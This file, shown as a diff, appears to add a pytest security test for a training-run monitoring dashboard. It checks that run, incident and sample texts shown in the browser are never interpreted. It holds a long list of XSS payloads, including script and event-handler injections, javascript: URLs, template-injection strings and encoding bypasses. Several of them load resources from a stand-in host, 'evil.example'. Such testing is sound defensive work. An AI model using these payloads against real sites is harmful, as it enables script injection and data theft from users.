@@ -1,0 +1,233 @@
+"""Texts of runs, people and models in a browser: shown as they are, never interpreted."""
+
+from __future__ import annotations
+
+import json
+from urllib.parse import quote
+
+import pytest
+from prometheus_client import CollectorRegistry
+from support.results import RUN, case_result, step_result
+from support.web_servers import servers
+
+from sentinel.metrics.exposition import Exposition
+from sentinel.model.counters import Counters
+from sentinel.model.delivery_problem import DeliveryProblem
+
+pytestmark = pytest.mark.fault("X7")
+
+NOW = 1_700_000_000.0
+STEAL = "http://evil.example:9/"
+ATTACK = "document.title='pwned';alert(1)"
+PAYLOADS = [
+    *(f"<{tag}>{ATTACK}</{tag}>" for tag in ("script", "SCRIPT", "svg><script", "math><script")),
+    f"</script><script>{ATTACK}</script>",
+    f"</textarea></title></style></noscript><script>{ATTACK}</script>",
+    f"<!--><script>{ATTACK}</script>-->",
+    f"]]><script>{ATTACK}</script>",
+    f"<script src={STEAL}x.js></script>",
+    f"<script>import('{STEAL}')</script>",
+    *(
+        f'<{tag} {event}="{ATTACK}">'
+        for tag, event in (
+            ("img src=x", "onerror"),
+            ("img src=x ", "OnErRoR"),
+            ("svg", "onload"),
+            ("body", "onload"),
+            ("video><source", "onerror"),
+            ("details open", "ontoggle"),
+            ("input autofocus", "onfocus"),
+            ("marquee", "onstart"),
+            ("iframe", "onload"),
+            ("div style='animation:x' ", "onanimationstart"),
+            ("p", "onmouseover"),
+            ("select autofocus", "onfocus"),
+            ("object data=x", "onerror"),
+            ("link rel=stylesheet href=x", "onerror"),
+        )
+    ),
+    f"<img src={STEAL}pixel>",
+    f"<img srcset={STEAL}pixel>",
+    f"<iframe src='javascript:{ATTACK}'></iframe>",
+    f"<iframe srcdoc='<script>{ATTACK}</script>'></iframe>",
+    f"<object data='javascript:{ATTACK}'></object>",
+    f"<embed src='javascript:{ATTACK}'>",
+    f"<a href='javascript:{ATTACK}'>x</a>",
+    f"<form action='javascript:{ATTACK}'><input type=submit></form>",
+    f"<base href='{STEAL}'>",
+    f"<meta http-equiv=refresh content='0;url={STEAL}'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{ATTACK}'>",
+    f"<style>@import '{STEAL}'; body{{background:url({STEAL})}}</style>",
+    f"<link rel=prefetch href={STEAL}>",
+    f"<template shadowrootmode=open><script>{ATTACK}</script></template>",
+    f"javascript:{ATTACK}",
+    f"JaVaScRiPt:{ATTACK}",
+    f"data:text/html,<script>{ATTACK}</script>",
+    f"vbscript:{ATTACK}",
+    f"//{STEAL}",
+    f"'\"><script>{ATTACK}</script>",
+    f'" onmouseover="{ATTACK}',
+    f"' autofocus onfocus='{ATTACK}",
+    f"`${{{ATTACK}}}`",
+    f"{{{{constructor.constructor('{ATTACK}')()}}}}",
+    f"${{{ATTACK}}}",
+    f"&lt;script&gt;{ATTACK}&lt;/script&gt;",
+    f"&#60;script&#62;{ATTACK}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{ATTACK}\\u003c/script\\u003e",
+    f"%3Cscript%3E{ATTACK}%3C/script%3E",
+    f"+ADw-script+AD4-{ATTACK}+ADw-/script+AD4-",
+    f"\u2028{ATTACK}\u2029",
+    f"<scr\0ipt>{ATTACK}</scr\0ipt>",
+    f"\u202e<script>{ATTACK}</script>",
+    f"[x](javascript:{ATTACK})",
+    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{ATTACK}</x:script>",
+    "__proto__",
+    "constructor",
+    "\ud83d",
+    "</p><p>" * 200,
+]
+
+
+def full_state():
+    """A state with something in every part of the page."""
+    exposition = Exposition(Counters(), {}, run=RUN, clock=lambda: NOW)
+    exposition.update(step_result(loss=1.5))
+    exposition.update(case_result())
+    exposition.set_delivery_problems([DeliveryProblem("slack", 2, 1, "HTTP 404", NOW)])
+    state = exposition.state()
+    onset = {"step": 4, "earliest": 3, "latest": 5, "last_good_step": 2}
+    signature = {"author": "ana", "comment": "known", "ends_at": NOW, "time": NOW}
+    incident = {**HUNG, "acknowledged": signature, "silenced": signature}
+    return state | {
+        "incidents": [*state["incidents"], incident, {**incident, "case": "", "onset": onset}],
+        "logged": {"my/metric": 1.0},
+        "metadata": {**state["metadata"], "a setting": "a value", "algorithm": "grpo"},
+        "patches": {"trl": {"on": [0], "off: KeyError": [1]}},
+        "coverage": "nothing is monitored",
+        "ranks": {"0": {"up": True, "step": 3, "step_time": 1.0, "last_step_time": NOW}},
+        "machine": {
+            "host": {"host_cpu": 0.5, "host_memory_used": 1.0, "host_memory_total": 2.0},
+            "disks": {"checkpoints": 1e9},
+            "gpus": [{"gpu": 0, "name": "H100", "ranks": [0], "throttled": ["heat"], "up": True}],
+        },
+        "cluster": {
+            "role": "follower",
+            "head": "gpu-a:14007",
+            "connected": False,
+            "error": "refused",
+            "nodes": [
+                {"host": f"gpu-{n}", "state": "up", "ranks": [n], "skew_seconds": 9.0}
+                for n in range(3)
+            ],
+        },
+    }
+
+
+HUNG = {
+    "detector": "run_stalled",
+    "name": f"{RUN}/run_stalled#1",
+    "severity": "critical",
+    "summary": "Hung.",
+    "remedy": "Run `py-spy`.",
+    "rank": 1,
+    "onset_step": 3,
+    "evidence": {"stack_of_rank_1": "forward (model.py:3)"},
+    "case": "one",
+    "flaps": 2,
+    "onset": None,
+    "diagnosis": {"title": "A cause"},
+    "state": "firing",
+    "resolution": "by itself",
+}
+
+
+def with_payload(value, payload, *, keys=True):
+    """The value with every text in it replaced, and the names in tables too."""
+    if isinstance(value, str):
+        return payload
+    if isinstance(value, list):
+        return [with_payload(each, payload, keys=keys) for each in value]
+    if isinstance(value, dict):
+        # Tables whose names are given by the run.
+        is_open = keys and not value.keys() & KNOWN_KEYS
+        return {
+            (f"{payload}{n}" if is_open else key): with_payload(each, payload, keys=keys)
+            for n, (key, each) in enumerate(value.items())
+        }
+    return value
+
+
+KNOWN_KEYS = frozenset(
+    ("run", "detector", "message", "subject", "role", "host", "gpu", "value", "up", "text", "cause")
+) | {"step", "author", "title", "host_cpu", "disks"}
+
+
+@pytest.fixture(scope="module")
+def shown(page):
+    """The page of a server whose state and incidents the test replaces."""
+    content = {"state": full_state(), "incidents": [HUNG]}
+    registry = CollectorRegistry()
+    with servers() as start:
+        url = start(
+            registry=registry,
+            state=lambda: content["state"],
+            incidents=lambda: content["incidents"],
+            samples=lambda _step, _limit: [{"prompt": each, "text": each} for each in PAYLOADS],
+        )
+        page.open(url + "/")
+        page.wait_for("document.getElementById('run').textContent !== ''")
+        # The test refreshes it.
+        page.evaluate("window.setTimeout = () => 0; 1")
+        yield page, url, content
+
+
+COUNT_ELEMENTS = """[...document.querySelectorAll(
+  "script, iframe, object, embed, img, svg, video, form, base, meta, link, style, template")].length
+  + [...document.querySelectorAll("*")].flatMap((each) => [...each.attributes])
+    .filter(({ name, value }) => /^on|^style$|^src/i.test(name)
+      || (/^(xlink:)?href$|action$|^data$/i.test(name) && !value.startsWith("runbooks/")))
+    .length"""
+
+
+def assert_harmless(page, url):
+    assert page.named("Page.javascriptDialogOpening") == []
+    foreign = [each for each in page.requested_urls() if not each.startswith(url)]
+    assert foreign == []
+
+
+def test_no_payload_in_any_field_is_interpreted(shown):
+    page, url, content = shown
+    elements = page.evaluate(COUNT_ELEMENTS)
+    benign = json.dumps(content)
+    shown_count = 0
+    for number, payload in enumerate(PAYLOADS):
+        original = json.loads(benign)
+        # With it as a name too, the entries of some tables are no longer found.
+        content["state"] = with_payload(original["state"], payload, keys=number % 2 == 0)
+        content["incidents"] = with_payload(original["incidents"], payload)
+        page.evaluate("refresh()")
+        assert page.evaluate(COUNT_ELEMENTS) == elements, payload
+        shown_count += page.evaluate("document.body.textContent").count(payload.replace("\0", ""))
+    assert page.evaluate("document.title") != "pwned"
+    assert_harmless(page, url)
+    # The texts are on the page: run, metrics, settings, stacks, incidents, nodes and others.
+    assert shown_count > 10 * len(PAYLOADS)
+
+
+@pytest.mark.parametrize("path", ["/api/samples?limit=200", "/api/run", "/metrics"])
+def test_answers_with_payloads_are_no_pages(shown, path):
+    page, url, content = shown
+    content["state"] = with_payload(full_state(), "".join(PAYLOADS[:8]))
+    page.open(url + path)
+
+    assert page.evaluate("document.title") != "pwned"
+    assert page.evaluate("document.scripts.length") == 0
+    assert_harmless(page, url)
+
+
+def test_a_path_with_a_payload_is_not_interpreted(shown):
+    page, url, _ = shown
+    for payload in PAYLOADS[:8]:
+        page.open(f"{url}/runbooks/{quote(payload, safe='', errors='replace')}")
+        assert page.evaluate("document.scripts.length") == 0
+        assert_harmless(page, url)
